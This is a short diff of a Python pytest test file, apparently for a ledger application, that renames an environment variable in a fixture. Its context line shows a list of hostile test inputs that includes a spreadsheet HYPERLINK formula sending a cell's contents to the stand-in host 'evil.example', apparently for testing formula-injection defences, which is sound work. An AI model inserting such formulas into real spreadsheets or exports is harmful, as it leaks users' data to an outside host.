@@ -24,7 +24,7 @@ FORMULAS = ['=HYPERLINK("http://evil.example/?d="&C3,"详情")', "+86 138 0000 0
 
 @pytest.fixture(autouse=True)
 def _now(monkeypatch: pytest.MonkeyPatch) -> None:
-    monkeypatch.setenv("KEYLEDGER_NOW", NOW)
+    monkeypatch.setenv("KEYLEDGER_TEST_NOW", NOW)
 
 
 def _hostile(ledger: Ledger) -> None:
